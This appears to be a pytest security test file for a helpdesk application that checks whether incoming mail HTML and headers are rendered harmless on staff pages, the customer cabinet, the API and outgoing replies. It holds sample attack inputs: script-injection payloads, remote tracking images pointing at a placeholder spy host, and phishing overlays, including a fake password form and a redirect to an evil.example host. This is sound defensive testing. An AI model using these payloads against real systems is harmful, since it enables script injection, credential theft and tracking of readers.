"""Attacks by the HTML and the headers of a mail, from its bytes to every place where its words are shown."""

import json

import pytest

from helpdesk.accounts.actions import tokens
from tests.attacks.letters import html_mail, html_of, letter_of
from tests.attacks.test_a_html import PAYLOADS, Reader
from tests.attacks.test_a_pages import HOSTILE, assert_harmless
from tests.browsers import browser_of
from tests.htmx import tree
from tests.tickets.mail.conftest import mail
from tickets.actions.conversation import forward, reply
from tickets.actions.recipients import Recipient

pytestmark = pytest.mark.django_db
ONE_LINE = [words for words in HOSTILE if "\u202e" not in words]


def written(raw):
    assert raw.state == "processed", raw.reason
    return raw.message


@pytest.mark.parametrize("payloads", [PAYLOADS[::2], PAYLOADS[1::2]], ids=["even", "odd"])
def test_a01_payload_of_a_mail_runs_neither_at_the_desk_nor_in_the_cabinet(deliver, desk, payloads):
    """One conversation, in which every mail carries a payload."""
    for number, payload in enumerate(payloads):
        raw = html_mail(f"<p>before</p>{payload}<p>after</p>", message_id=f"{number}@shop.example")
        message = written(deliver(raw.replace(b"MIME-Version", b"In-Reply-To: <0@shop.example>\r\nMIME-Version", 1)))
        original = desk.get(f"/desk/messages/{message.pk}/original/")
        assert_harmless(original)
        assert b"<p>before</p>" in original.content
    page = f"/cabinet/requests/{message.ticket.number}/"

    for response in (desk.get(f"/desk/tickets/{message.ticket.number}/"), browser_of(message.author).get(page)):
        assert_harmless(response)
        assert response.content.decode().count("<p>before</p>") == len(payloads)


def test_a01_payloads_of_a_mail_are_nothing_that_runs_in_the_api(deliver, anna, client):
    token = tokens.issue(user=anna, by=None, name="reader")
    for number, payload in enumerate(PAYLOADS[::3]):
        message = written(deliver(html_mail(f"<p>before</p>{payload}", message_id=f"{number}@shop.example")))
        url = f"/api/v1/tickets/{message.ticket.number}/messages/"

        [item] = client.get(url, headers={"Authorization": f"Bearer {token}"}).json()["items"]

        assert Reader(item["html"]).dangers == []
        assert "before" in item["html"]


def test_a01_payloads_of_a_mail_leave_the_house_as_nothing_that_runs(deliver, anna):
    message = written(deliver(html_mail("<p>before</p>" + "".join(PAYLOADS) + "<p>after</p>")))

    passed_on = forward(ticket=message.ticket, by=anna, to=[Recipient("", "oleg@supplier.example")], text="See:")

    assert Reader(_own(passed_on)).dangers == []
    assert "before" in letter_of(passed_on).as_string()


def _own(message):
    """The HTML of the letter, without the document's own head and style sheet."""
    html = html_of(letter_of(message))
    return html[html.index("<body") :] if "<body" in html else html


@pytest.mark.parametrize("words", ONE_LINE)
def test_a02_subject_and_name_of_a_mail_are_words_on_every_page(deliver, desk, cabinet, clara, words):
    raw = deliver(mail(sender=f'"{words.replace(chr(34), "")}" <clara@shop.example>', subject=words))
    number = written(raw).ticket.number

    pages = [
        desk.get(f"/desk/tickets/{number}/"),
        desk.get("/desk/tickets/"),
        desk.get("/desk/search/", {"q": words}),
        cabinet.get("/cabinet/"),
        cabinet.get("/cabinet/requests/"),
        cabinet.get(f"/cabinet/requests/{number}/"),
    ]

    for response in pages:
        assert response.status_code == 200
        assert_harmless(response)
    assert words in tree(pages[0].content.decode()).xpath("//title")[0].text_content()


@pytest.mark.parametrize("words", ONE_LINE)
def test_a02_subject_goes_out_as_one_header_and_as_words(deliver, anna, words):
    message = written(deliver(mail(subject=words)))

    letter = letter_of(reply(ticket=message.ticket, by=anna, text="Hello"))

    assert words in letter["Subject"]
    assert Reader(_own(reply(ticket=message.ticket, by=anna, text=words))).dangers == []


@pytest.mark.parametrize(
    "payload", ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>"]
)
def test_a04_preview_in_the_list_is_plain_text(deliver, desk, payload):
    written(deliver(html_mail(f"<b>The basket</b> is &lt;i&gt;empty&lt;/i&gt; {payload}")))

    response = desk.get("/desk/tickets/")

    assert_harmless(response)
    snippet = tree(response.content.decode()).find_class("row-snippet")[0]
    assert list(snippet) == []
    assert snippet.text_content().startswith("The basket is <i>empty</i>")


def test_a06_original_of_a_mail_is_shown_where_nothing_runs(deliver, desk):
    message = written(deliver(html_mail("<p style='color:red'>Hello</p><script>alert(1)</script>")))

    page = desk.get(f"/desk/tickets/{message.ticket.number}/")
    response = desk.get(f"/desk/messages/{message.pk}/original/")

    frames = tree(page.content.decode()).xpath("//iframe")
    assert all("allow-scripts" not in frame.get("sandbox", "") for frame in frames)
    policy = response["Content-Security-Policy"].split("; ")
    assert policy[0].startswith("sandbox ")
    assert "allow-scripts" not in policy[0]
    assert "default-src 'none'" in policy
    assert not [each for each in policy if each.startswith("script-src")]


def test_a07_link_to_a_page_of_ours_carries_no_script_into_it(deliver, desk, settings):
    target = f"{settings.SITE_URL}/desk/search/?q=<script>alert(1)</script>&view=javascript:alert(2)"
    message = written(deliver(html_mail(f'<a href="{target}">Your ticket</a>')))
    page = desk.get(f"/desk/tickets/{message.ticket.number}/")
    [link] = tree(page.content.decode()).xpath("//a[text()='Your ticket']")

    response = desk.get(link.get("href").removeprefix(settings.SITE_URL))

    assert_harmless(response)
    assert "<script>alert" not in response.content.decode()
    policy = response["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy
    assert "'unsafe-eval'" not in policy
    assert {"noopener", "noreferrer"} <= set(link.get("rel").split())


def test_a07_relative_link_of_a_mail_leads_to_no_page_of_ours(deliver, desk):
    message = written(deliver(html_mail('<a href="/desk/tickets/1/?q=x">a</a><a href="//evil.example/">b</a>')))

    page = desk.get(f"/desk/tickets/{message.ticket.number}/")

    article = tree(page.content.decode()).xpath("//article//div[contains(@class,'prose')]")[0]
    assert article.xpath(".//a/@href") == []


@pytest.mark.parametrize("payload", HOSTILE)
def test_a08_api_gives_words_as_json_strings_that_no_browser_takes_for_a_page(deliver, client, anna, payload):
    token = tokens.issue(user=anna, by=None, name="reader")
    number = written(deliver(mail(subject=payload))).ticket.number

    response = client.get(f"/api/v1/tickets/{number}/", headers={"Authorization": f"Bearer {token}"})

    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert json.loads(response.content)["subject"] == payload.replace("\u202e", "")


REMOTE = (
    '<img src="https://spy.example/1.png"><img srcset="https://spy.example/2.png 2x">'
    '<table background="https://spy.example/3"><tr><td style="background:url(https://spy.example/4)">words</td></tr>'
    '</table><link rel=stylesheet href="https://spy.example/5"><style>@import "https://spy.example/6";</style>'
)


def loading(response):
    """What the page's elements make a browser fetch by itself."""
    document = tree(response.content.decode())
    found = document.xpath("//@src|//@srcset|//@background|//@poster|//link/@href|//@style")
    return [address for address in found if "spy.example" in address]


def test_a25_remote_pictures_wait_until_the_reader_asks(deliver, desk, cabinet, clara):
    message = written(deliver(html_mail(REMOTE)))
    url = f"/desk/messages/{message.pk}/original/"

    unasked = [
        desk.get(f"/desk/tickets/{message.ticket.number}/"),
        cabinet.get(f"/cabinet/requests/{message.ticket.number}/"),
        desk.get(url),
    ]
    asked = desk.get(url, {"pictures": "1"})

    assert message.has_remote_pictures is True
    for response in unasked:
        assert loading(response) == []
        assert "https:" not in response["Content-Security-Policy"]
    assert loading(asked) == ["https://spy.example/1.png"]
    assert asked["Referrer-Policy"] == "no-referrer"
    assert "default-src 'none'" in asked["Content-Security-Policy"]


@pytest.mark.parametrize(
    "overlay",
    [
        '<div style="position:fixed;inset:0;z-index:99">Sign in again</div>',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<style>main { display: none }</style>",
    ],
)
def test_a25_mail_cannot_pose_as_a_part_of_our_page(deliver, desk, overlay):
    message = written(deliver(html_mail(f"<p>words</p>{overlay}")))

    for url in (f"/desk/tickets/{message.ticket.number}/", f"/desk/messages/{message.pk}/original/"):
        page = desk.get(url).content.decode()
        assert "evil.example" not in page
        assert "position:fixed" not in page.replace(" ", "")
        assert "main { display" not in page
